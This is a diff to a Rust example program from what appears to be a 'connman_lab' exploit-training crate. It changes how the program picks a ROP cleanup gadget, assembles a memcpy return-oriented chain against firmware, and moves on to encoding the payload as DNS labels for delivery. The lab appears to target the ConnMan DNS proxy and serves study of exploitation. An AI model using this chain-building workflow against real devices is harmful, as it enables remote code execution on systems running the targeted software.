@@ -7,10 +7,10 @@
 //! ```
 
 use connman_lab::exploit::target::deliver_labels;
-use connman_lab::exploit::{GadgetKind, RopMemcpyChain, TargetInfo};
+use connman_lab::exploit::{RopMemcpyChain, TargetInfo};
 use connman_lab::firmware::Firmware;
 use connman_lab::vm::debug::Inspector;
-use connman_lab::{Arch, ExploitStrategy, FirmwareKind, Protections};
+use connman_lab::{Arch, FirmwareKind, Protections};
 
 fn main() -> Result<(), Box<dyn std::error::Error>> {
     let arch = Arch::X86;
@@ -31,15 +31,22 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     for g in info.gadgets.iter().take(10) {
         println!("  {g}");
     }
-    let ppppr = info
-        .gadgets
-        .iter()
-        .find(|g| matches!(&g.kind, GadgetKind::X86PopChain { regs } if regs.len() == 4))
-        .expect("pop pop pop pop ret");
-    println!("chosen cleanup gadget: {ppppr}");
+    // Every gadget carries one effect descriptor: stack loads, stack
+    // lift and transfer.
+    for g in info.gadgets.iter().filter(|g| g.effect.loads.len() >= 3) {
+        let e = &g.effect;
+        println!(
+            "  {g}\n      loads {:?}, lifts sp by {}, transfer {:?}",
+            e.loads, e.sp_delta, e.transfer
+        );
+    }
 
     println!("\n=== 3. chain assembly ===");
-    let payload = RopMemcpyChain::new(arch).build(&info)?;
+    let (payload, cleanup) = RopMemcpyChain::new(arch).compile(&info)?;
+    println!(
+        "chosen cleanup gadget: {:#010x}",
+        cleanup.expect("x86 chain cleans up")
+    );
     println!("{}", payload.listing());
 
     println!("=== 4. DNS label encoding ===");
